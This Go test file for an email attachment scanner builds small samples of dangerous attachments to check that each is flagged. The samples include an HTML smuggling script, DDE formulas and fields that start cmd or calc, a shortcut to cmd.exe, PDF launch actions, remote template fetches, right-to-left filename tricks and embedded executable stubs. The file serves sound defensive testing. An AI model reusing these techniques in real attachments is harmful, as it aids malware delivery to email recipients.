package attachment

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"gatepost/internal/mail"
)

// A named is a file of a test.
type named struct {
	name string
	data []byte
}

// eicar is the test file of the European Institute for Computer Antivirus Research.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// program is the least that is taken for a Windows program.
func program() []byte {
	b := make([]byte, 256)
	copy(b, "MZ")
	b[60] = 128
	copy(b[128:], "PE\x00\x00")
	return b
}

// message makes a mail with attachments.
func message(files ...named) *mail.Message {
	var b bytes.Buffer
	b.WriteString("From: ann@example.org\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n")
	for _, f := range files {
		fmt.Fprintf(&b, "--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename*=utf-8''%s\r\n\r\n", percent(f.name))
		text := base64.StdEncoding.EncodeToString(f.data)
		for ; len(text) > 76; text = text[76:] {
			b.WriteString(text[:76] + "\r\n")
		}
		b.WriteString(text + "\r\n")
	}
	b.WriteString("--b--\r\n")
	return mail.NewMessage(b.Bytes())
}

func percent(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// patient are the limits of the filter without that of time: a test must not depend on how busy
// the machine is.
func patient() Limits {
	l := DefaultLimits()
	l.Time = time.Hour
	return l
}

func inspect(t testing.TB, m *mail.Message, limits Limits) *Report {
	t.Helper()
	r, err := Inspect(t.Context(), m, limits)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// described is a report in lines: the path, kind and flags of each file.
func described(r *Report) string {
	var b strings.Builder
	for _, f := range r.Files {
		fmt.Fprintf(&b, "%s (%s)", f.Path, f.Kind)
		for _, g := range f.Flags {
			fmt.Fprintf(&b, " %s: %s;", g.Class, g.What)
		}
		b.WriteString("\n")
	}
	return b.String()
}

func zipped(t testing.TB, files ...named) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range files {
		w, err := z.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gzipped(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	if _, err := z.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func tarred(t testing.TB, files ...named) []byte {
	t.Helper()
	var b bytes.Buffer
	z := tar.NewWriter(&b)
	for _, f := range files {
		if err := z.WriteHeader(&tar.Header{Name: f.name, Size: int64(len(f.data)), Mode: 0o644, Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := z.Write(f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// made runs a program in a directory that has the files, and returns what it writes to out.
func made(t testing.TB, files []named, out string, program string, args ...string) []byte {
	t.Helper()
	if _, err := exec.LookPath(program); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	dir := t.TempDir()
	for _, f := range files {
		path := filepath.Join(dir, f.name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, f.data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c := exec.CommandContext(t.Context(), program, args...)
	c.Dir = dir
	if text, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", program, err, text)
	}
	b, err := os.ReadFile(filepath.Join(dir, out))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// Each row is one file; want is what is flagged in all of the report, "class what", or "".
func TestFlags(t *testing.T) {
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`
	smuggling := `<html><body><script>var b=atob("` + strings.Repeat("QUJD", 200) + `");var u=new Blob([b]);a.href=URL.createObjectURL(u);a.download="x.zip";a.click()</script></body></html>`
	for name, c := range map[string]struct {
		file named
		want string
	}{
		"text":                    {named{"a.txt", []byte("hello, this is a text")}, ""},
		"picture":                 {named{"a.png", []byte("\x89PNG\r\n\x1a\n0000")}, ""},
		"a program":               {named{"setup.exe", program()}, "executable a Windows program by its content; executable a program by its name (.exe)"},
		"a program, only by name": {named{"setup.exe", []byte{1, 2, 3, 4}}, "executable a program by its name (.exe)"},
		"a program as a picture":  {named{"photo.jpg", program()}, "executable a Windows program by its content; disguised named .jpg, but its content is: windows program"},
		"elf":                     {named{"run", []byte("\x7fELF\x02\x01\x01")}, "executable a Linux program by its content"},
		"mach-o":                  {named{"run", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01")}, "executable a macOS program by its content"},
		"shell script":            {named{"run", []byte("#!/bin/sh\necho\n")}, "executable a script by its content"},
		"javascript":              {named{"a.js", []byte("WScript.Shell()")}, "executable a script by its name (.js)"},
		"two extensions":          {named{"invoice.pdf.exe", program()}, "executable a Windows program by its content; executable a program by its name (.exe); disguised two extensions, .pdf and .exe"},
		"spaces":                  {named{"invoice.pdf" + strings.Repeat(" ", 60) + ".scr", nil}, ""}, // empty: no part
		"spaces before it":        {named{"invoice.pdf" + strings.Repeat("\u3000", 60) + ".scr", []byte{1}}, "executable a program by its name (.scr); disguised two extensions, .pdf and .scr; disguised spaces push the extension out of sight"},
		"right to left":           {named{"invoice\u202efdp.exe", []byte{1}}, "executable a program by its name (.exe); disguised the name has characters that turn the order of letters"},
		"a dot at the end":        {named{"setup.exe. .", []byte{1}}, "executable a program by its name (.exe)"},
		"other dots":              {named{"setup．ｅｘｅ", []byte{1}}, "executable a program by its name (.exe)"},
		"a domain":                {named{"notes for example.com", []byte("the notes")}, ""},
		"page for a document":     {named{"invoice.pdf.html", []byte("<html><body>x</body></html>")}, "disguised two extensions, .pdf and .html"},
		"page named pdf":          {named{"invoice.pdf", []byte("<html><body>x</body></html>")}, "disguised named .pdf, but its content is: html"},
		"sheet that is a page":    {named{"list.xls", []byte("<html><body><table>x</table></body></html>")}, ""},
		"smuggling":               {named{"a.html", []byte(smuggling)}, "active a script that builds a file and saves it"},
		"unpacks itself":          {named{"a.html", []byte(`<html><script>document.write(unescape("` + strings.Repeat("%3C%68", 200) + `"))</script>`)}, "active a script that unpacks itself"},
		"a page with a script":    {named{"a.html", []byte(`<html><script>console.log("x")</script></html>`)}, ""},
		"svg":                     {named{"a.svg", []byte(svg)}, "active a picture with a script"},
		"svg, event":              {named{"a.svg", []byte(`<svg onload="x()"></svg>`)}, "active a picture that runs a script by an event"},
		"svg, plain":              {named{"a.svg", []byte(`<svg><path d="M0 0"/></svg>`)}, ""},
		"url":                     {named{"a.url", []byte("[InternetShortcut]\r\nURL=file://192.0.2.1/x.exe\r\n")}, "executable a shortcut to file://192.0.2.1/x.exe; executable a shortcut by its content; executable a shortcut or setting by its name (.url)"},
		"lnk":                     {named{"a.lnk", shortcutFile()}, "executable a shortcut to ..\\cmd.exe /c calc; executable a shortcut by its content; executable a shortcut or setting by its name (.lnk)"},
		"csv with dde":            {named{"a.csv", []byte("name,sum\n=cmd|'/c calc'!A1,2\n")}, "macro a formula that starts a program"},
		"onenote":                 {named{"a.one", oneNoteBook(program())}, "container a OneNote notebook by its content; container a OneNote notebook by its name (.one); executable a Windows program by its content"},
		"rtf":                     {named{"a.doc", []byte(`{\rtf1 hello}`)}, ""},
		"rtf, equation":           {named{"a.doc", []byte(`{\rtf1{\object\objemb{\*\objdata 01050000020000000b0000004571756174696f6e2e3300}}}`)}, `macro an object "Equation.3"`},
		"rtf, split digits":       {named{"a.rtf", []byte(`{\rtf1{\object\objupdate{\*\objdata 0105\par 0000 02000000{\x 99}08000000 5061636b61676500}}}`)}, `macro an object that is loaded by itself (\objupdate); macro an object "Package"`},
		"rtf, template":           {named{"a.rtf", []byte(`{\rtf1{\*\template http://192.0.2.1/a.dotm}}`)}, "macro fetches a template from http://192.0.2.1/a.dotm"},
		"pdf":                     {named{"a.pdf", pdfFile("<</Type/Catalog>>")}, ""},
		"pdf, script":             {named{"a.pdf", pdfFile("<</OpenAction<</S/JavaScript/JS(x)>>>>")}, "active a PDF with a script"},
		"pdf, hidden names":       {named{"a.pdf", pdfFile("<</OpenAction<</S/J#61vaScript/J#53(x)>>>>")}, "active a PDF with a script"},
		"pdf, launch":             {named{"a.pdf", pdfFile("<</S/Launch/F(cmd.exe)>>")}, "active a PDF that starts a program"},
		"pdf, object stream":      {named{"a.pdf", pdfStream("/Type/ObjStm/Filter/FlateDecode", []byte("1 0 <</S/Launch/F(cmd.exe)>>"))}, "active a PDF that starts a program"},
		"pdf, embedded":           {named{"a.pdf", pdfStream("/Type/EmbeddedFile/Filter/FlateDecode", program())}, "executable a Windows program by its content"},
		"pdf, picture":            {named{"a.pdf", pdfStream("/Subtype/Image/Filter/DCTDecode", []byte("/JS /JS <</JS (x)>> "))}, ""},
		"pdf, encrypted":          {named{"a.pdf", pdfFile("<</Encrypt 5 0 R>>")}, "unread a PDF that is encrypted"},
		"docx":                    {named{"a.docx", zipped(t, wordFiles("<w:p/>")...)}, ""},
		"docm":                    {named{"a.docm", zipped(t, append(wordFiles(""), named{"word/vbaProject.bin", []byte("x")})...)}, "macro VBA project in word/vbaProject.bin"},
		"docx, dde": {named{"a.docx", zipped(t, wordFiles(`<w:instrText>D</w:instrText></w:r><w:r><w:instrText xml:space="preserve">DEAUTO c:\\windows\\cmd</w:instrText>`)...)},
			"macro DDE field in word/document.xml"},
		"docx, template": {named{"a.docx", zipped(t, append(wordFiles(""), named{"word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>`)})...)},
			"macro fetches http://192.0.2.1/a.dotm (attachedTemplate)"},
		"xlsm 4":         {named{"a.xlsm", zipped(t, named{"[Content_Types].xml", []byte("<Types/>")}, named{"_rels/.rels", []byte("<Relationships/>")}, named{"xl/macrosheets/sheet1.xml", []byte("<x/>")})}, "macro Excel 4 macros in xl/macrosheets/sheet1.xml"},
		"docx, package":  {named{"a.docx", zipped(t, append(wordFiles(""), named{"word/embeddings/run.exe", program()})...)}, "executable a Windows program by its content; executable a program by its name (.exe)"},
		"jar":            {named{"a.jar", zipped(t, named{"META-INF/MANIFEST.MF", nil}, named{"A.class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34")})}, "executable a Java program by its content; executable a package or database that runs by its name (.jar)"},
		"cab":            {named{"a.cab", cabinet("run.exe", "readme.txt")}, "unread packed by a method that is not read; executable a program by its name (.exe)"},
		"tnef":           {named{"winmail.dat", tnefFile("run.exe", program())}, "executable a Windows program by its content; executable a program by its name (.exe)"},
		"ace":            {named{"a.ace", []byte("1234567**ACE**1234")}, "unopened ace archives are not looked into: it may hold anything"},
		"uuencode":       {named{"a.txt", []byte("hello\nbegin 644 run.exe\n#0V%T\n`\nend\n")}, "executable a program by its name (.exe)"},
		"vhd":            {named{"a.vhd", append([]byte("conectix"), make([]byte, 504)...)}, "container a disk image by its content; container a disk image by its name (.vhd)"},
		"script as text": {named{"a.txt", []byte("#!/bin/sh\n")}, ""},
		"query":          {named{"a.iqy", []byte("WEB\n1\nhttp://x/")}, "macro a query or sheet that fetches or runs what it names by its name (.iqy)"},
		"rar as pdf":     {named{"a.pdf", []byte("Rar!\x1a\x07\x00")}, "disguised named .pdf, but its content is: rar"},
		"msi":            {named{"a.doc", oleWith(t, "{000C1084-0000-0000-C000-000000000046}", named{"x", []byte("1")})}, "executable an installer by its content; disguised named .doc, but its content is: installer"},
		"vba":            {named{"a.doc", oleWith(t, "", named{"_VBA_PROJECT", []byte("1")})}, "macro VBA project"},
		"xls 4":          {named{"a.xls", oleWith(t, "", named{"Workbook", []byte("\x85\x00\x09\x00\x00\x00\x00\x00\x00\x01\x01\x00A\x0a\x00\x00\x00")})}, "macro Excel 4 macros"},
		"xls, password":  {named{"a.xls", oleWith(t, "", named{"Workbook", []byte("\x2f\x00\x02\x00\x00\x00\x0a\x00\x00\x00")})}, "encrypted needs a password"},
		"docx, password": {named{"a.docx", oleWith(t, "", named{"EncryptedPackage", []byte("xxxxxxxxxxxx")})}, "encrypted needs a password"},
		"equation":       {named{"a.doc", oleWith(t, "", named{"Equation Native", []byte("xxxx")})}, "macro an object of the Equation Editor"},
		"package":        {named{"a.doc", oleWith(t, "", named{"\x01Ole10Native", packageOf("run.exe", program())})}, "macro a file in the document: run.exe; executable a Windows program by its content; executable a program by its name (.exe)"},
		"doc, dde":       {named{"a.doc", oleWith(t, "", named{"WordDocument", []byte(strings.Repeat("x", 40) + "\x13 DDEAUTO c:\\cmd \x14")})}, "macro DDE field"},
		"outlook's mail": {named{"a.msg", oleWith(t, "", named{"__substg1.0_3707001F", utf16le("run.exe")}, named{"__substg1.0_37010102", program()})}, "executable a Windows program by its content; executable a program by its name (.exe)"},
	} {
		t.Run(name, func(t *testing.T) {
			r := inspect(t, message(c.file), patient())
			var got []string
			for _, f := range r.Files {
				for _, g := range f.Flags {
					got = append(got, string(g.Class)+" "+g.What)
				}
			}
			want := strings.Split(c.want, "; ")
			if c.want == "" {
				want = nil
			}
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(slices.Compact(got), want) {
				t.Errorf("got  %q\nwant %q\n%s", got, want, described(r))
			}
		})
	}
}

func wordFiles(body string) []named {
	return []named{{"[Content_Types].xml", []byte("<Types/>")}, {"_rels/.rels", []byte("<Relationships/>")}, {"word/document.xml", []byte("<w:document>" + body + "</w:document>")}}
}

func pdfFile(object string) []byte {
	return []byte("%PDF-1.7\n1 0 obj\n" + object + "\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
}

func shortcutFile() []byte {
	b := make([]byte, 76)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00")
	binary.LittleEndian.PutUint32(b[20:], 8|32|0x80)
	for _, s := range []string{`..\cmd.exe`, "/c calc"} {
		b = binary.LittleEndian.AppendUint16(b, uint16(len(s)))
		b = append(b, utf16le(s)...)
	}
	return b
}

func oneNoteBook(file []byte) []byte {
	b := append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d"), make([]byte, 1000)...)
	b = append(b, oneNoteFile...)
	b = binary.LittleEndian.AppendUint64(b, uint64(len(file)))
	b = append(b, make([]byte, 12)...)
	return append(append(b, file...), make([]byte, 100)...)
}

func packageOf(name string, data []byte) []byte {
	b := []byte{0, 0, 0, 0, 2, 0}
	b = append(b, name+"\x00C:\\"+name+"\x00\x00\x00\x03\x00"...)
	b = binary.LittleEndian.AppendUint32(b, 4)
	b = append(b, "C:\\\x00"...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	return append(b, data...)
}

func cabinet(names ...string) []byte {
	b := make([]byte, 36)
	copy(b, "MSCF")
	binary.LittleEndian.PutUint32(b[16:], 36)
	binary.LittleEndian.PutUint16(b[28:], uint16(len(names)))
	for _, n := range names {
		b = append(b, make([]byte, 16)...)
		b = append(b, n+"\x00"...)
	}
	return b
}

func tnefFile(name string, data []byte) []byte {
	b := []byte("\x78\x9f\x3e\x22\x01\x00")
	add := func(id uint32, v []byte) {
		b = append(b, 2)
		b = binary.LittleEndian.AppendUint32(b, id)
		b = binary.LittleEndian.AppendUint32(b, uint32(len(v)))
		b = append(append(b, v...), 0, 0)
	}
	properties := binary.LittleEndian.AppendUint32(nil, 2)
	properties = append(properties, 3, 0, 5, 0x37, 1, 0, 0, 0, 0x1f, 0, 7, 0x37, 1, 0, 0, 0)
	properties = binary.LittleEndian.AppendUint32(properties, uint32(2*len(name)))
	properties = append(properties, utf16le(name)...)
	properties = append(properties, make([]byte, (4-2*len(name)%4)%4)...)
	add(tnefAttachment, make([]byte, 14))
	add(tnefTitle, []byte("RUN~1.EXE\x00"))
	add(tnefData, data)
	add(tnefProperties, properties)
	return b
}

// oleWith makes a compound file of version 3: a header, one sector of FAT, the directory, and
// the streams, each padded to what is kept outside the mini stream.
func oleWith(t testing.TB, class string, streams ...named) []byte {
	t.Helper()
	const size, cutoff = 512, 4096
	var fat []uint32
	var body []byte
	put := func(data []byte) (first uint32) {
		first = uint32(len(fat))
		n := (len(data) + size - 1) / size
		for i := range n {
			next := uint32(len(fat) + 1)
			if i == n-1 {
				next = 0xfffffffe
			}
			fat = append(fat, next)
		}
		body = append(body, data...)
		body = append(body, make([]byte, n*size-len(data))...)
		return first
	}
	fat = append(fat, 0xfffffffd) // the FAT itself
	directory := make([]byte, (len(streams)+1+3)/4*size)
	entry := func(i int, name string, kind byte, right, child, start uint32, length int) {
		e := directory[i*128:]
		u := utf16le(name)
		copy(e, u)
		binary.LittleEndian.PutUint16(e[64:], uint16(len(u)+2))
		e[66], e[67] = kind, 1
		for at, v := range map[int]uint32{68: 0xffffffff, 72: right, 76: child, 116: start, 120: uint32(length)} {
			binary.LittleEndian.PutUint32(e[at:], v)
		}
	}
	for i := range (len(streams) + 1 + 3) / 4 * 4 {
		for _, at := range []int{68, 72, 76} {
			binary.LittleEndian.PutUint32(directory[i*128+at:], 0xffffffff)
		}
	}
	at := put(directory)
	entry(0, "Root Entry", 5, 0xffffffff, 1, 0xfffffffe, 0)
	if class != "" {
		copy(directory[80:], guid(t, class))
	}
	for i, s := range streams {
		data := s.data
		if len(data) < cutoff {
			data = append(append([]byte(nil), data...), make([]byte, cutoff-len(data))...)
		}
		right := uint32(i + 2)
		if i == len(streams)-1 {
			right = 0xffffffff
		}
		entry(i+1, s.name, 2, right, 0xffffffff, put(data), len(data))
	}
	copy(body, directory)
	h := make([]byte, size)
	copy(h, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	for at, v := range map[int]uint16{24: 0x3e, 26: 3, 28: 0xfffe, 30: 9, 32: 6} {
		binary.LittleEndian.PutUint16(h[at:], v)
	}
	for i, v := range map[int]uint32{44: 1, 48: at, 56: cutoff, 60: 0xfffffffe, 68: 0xfffffffe} {
		binary.LittleEndian.PutUint32(h[i:], v)
	}
	for i := range 109 {
		binary.LittleEndian.PutUint32(h[76+4*i:], 0xffffffff)
	}
	binary.LittleEndian.PutUint32(h[76:], 0)
	table := make([]byte, size)
	for i := range size / 4 {
		v := uint32(0xffffffff)
		if i < len(fat) {
			v = fat[i]
		}
		binary.LittleEndian.PutUint32(table[4*i:], v)
	}
	if len(fat) > size/4 {
		t.Fatal("too much for one sector of FAT")
	}
	return append(append(h, table...), body...)
}

func guid(t testing.TB, s string) []byte {
	t.Helper()
	var a uint32
	var b, c uint16
	var d [8]byte
	if _, err := fmt.Sscanf(s, "{%08X-%04X-%04X-%02X%02X-%02X%02X%02X%02X%02X%02X}", &a, &b, &c, &d[0], &d[1], &d[2], &d[3], &d[4], &d[5], &d[6], &d[7]); err != nil {
		t.Fatal(err)
	}
	out := binary.LittleEndian.AppendUint32(nil, a)
	out = binary.LittleEndian.AppendUint16(out, b)
	out = binary.LittleEndian.AppendUint16(out, c)
	return append(out, d[:]...)
}

func pdfStream(dictionary string, data []byte) []byte {
	if strings.Contains(dictionary, "FlateDecode") {
		data = deflated(data)
	}
	return append(append([]byte("%PDF-1.7\n1 0 obj\n<<"+dictionary+">>\nstream\r\n"), data...), "\nendstream\nendobj\n%%EOF\n"...)
}

// A reader of a message that is at hand piece by piece.
var _ io.ReaderAt = (*source)(nil)
